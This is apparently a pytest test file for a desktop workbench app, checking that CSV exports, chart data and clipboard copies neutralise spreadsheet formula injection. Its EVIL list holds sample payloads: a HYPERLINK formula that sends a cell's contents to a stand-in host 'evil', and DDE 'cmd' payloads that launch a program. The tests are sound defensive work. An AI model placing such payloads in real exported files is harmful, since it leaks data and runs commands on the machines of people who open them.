"""Row 11: no table that is exported or copied holds a formula."""

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication, QStandardItem, QStandardItemModel
from PySide6.QtTest import QTest
from pytestqt.qtbot import QtBot

from workbench.core.jobs import JobContext
from workbench.core.spreadsheet import csv_row
from workbench.logs.buffer import export_table
from workbench.ui.features.logs.tables import WideTable
from workbench.ui.kit.charts import points
from workbench.ui.kit.charts.model import Curve

EVIL = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "x;=1+1",
    '",=1+1',
    "GET /x;=cmd|' /C calc'!A0",
    "a, b;+cmd|' /C calc'!A0",
    'a, b;"=1+1',
    "a, b;'=1+1",
    "a, b;-2+3+cmd|' /C calc'!A0",
    "a, b;@SUM(1+1)",
    "a, b\n=1+1",
    "a, b\t=1+1",
    "a;b;;=1+1",
]


def cells(text: str, separator: str = ",") -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text), delimiter=separator) for cell in line]


def assert_harmless(text: str, separator: str = ",") -> None:
    found = cells(text, separator)
    assert found
    for cell in found:
        assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n", "＝")), cell
        assert not cell.startswith("-") or float(cell) <= 0, cell


def assert_harmless_with_semicolons(text: str) -> None:
    """As a spreadsheet reads it whose separator is the semicolon, and one that knows no quotes at all."""
    for line in re.split(r"[\r\n]+", text):
        for cell in (*cells(line, ";"), *re.split(r"[;\t]", line)):
            cell = cell.strip('"')
            assert not cell.startswith(("=", "+", "@", "＝")), line
            assert not cell.startswith("-") or NUMBERS.fullmatch(cell), line


NUMBERS = re.compile(r"[-+.,0-9\"]+")


@pytest.mark.parametrize(
    "ordinary",
    [
        "GET /orders;jsessionid=1 200",
        "a=1;b=2; c=-3",
        "text/html; charset=utf-8",
        "3.5;-4;+5e3",
        "x;-1",
        "dots...; and - dashes; +49 30 1234",
        "Path=/; HttpOnly; Secure",
        "2026-12-02T03:59:31Z",
        "arn:aws:lambda:us-east-1:123456789012:function:hello",
        "@timestamp",
        "one line\nand another",
    ],
)
def test_ordinary_cells_are_exported_as_they_are(ordinary: str) -> None:
    assert cells(csv_row(["a", ordinary])) == ["a", ordinary]


@pytest.mark.parametrize("evil", EVIL)
def test_a_cell_in_the_middle_of_a_line(evil: str) -> None:
    text = csv_row(["x", evil, "y"])
    assert_harmless(text)
    assert_harmless_with_semicolons(text)


@pytest.mark.parametrize("evil", EVIL)
def test_headings_of_insights_and_their_cells(tmp_path: Path, evil: str) -> None:
    export_table(tmp_path / "t.csv", [evil, "b"], [[evil, "-3.5"]], JobContext())
    text = (tmp_path / "t.csv").read_text("utf-8")
    assert_harmless(text)
    assert cells(text)[-1] == "-3.5"
    assert_harmless_with_semicolons(text)


@pytest.mark.parametrize("evil", EVIL)
def test_data_of_charts(evil: str) -> None:
    curve = Curve(evil, np.array([0.0, 60.0]), np.array([-1.5, 2.0]))
    for text in (
        points.csv_text((curve,), "title"),
        points.csv_text((replace(curve, label=""),), evil),
    ):
        assert_harmless(text)
        assert "-1.5" in cells(text)


@pytest.mark.parametrize("evil", EVIL)
def test_rows_that_are_copied(qtbot: QtBot, evil: str) -> None:
    model = QStandardItemModel(1, 2)
    model.setItem(0, 0, QStandardItem(evil))
    model.setItem(0, 1, QStandardItem("-7"))
    table = WideTable("table", "Table")
    qtbot.addWidget(table)
    table.setModel(model)
    table.selectRow(0)
    QTest.keyClick(table, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    text = QGuiApplication.clipboard().text()
    assert text.count("\t") == 1
    assert_harmless(text, "\t")
    assert text.endswith("\t-7")
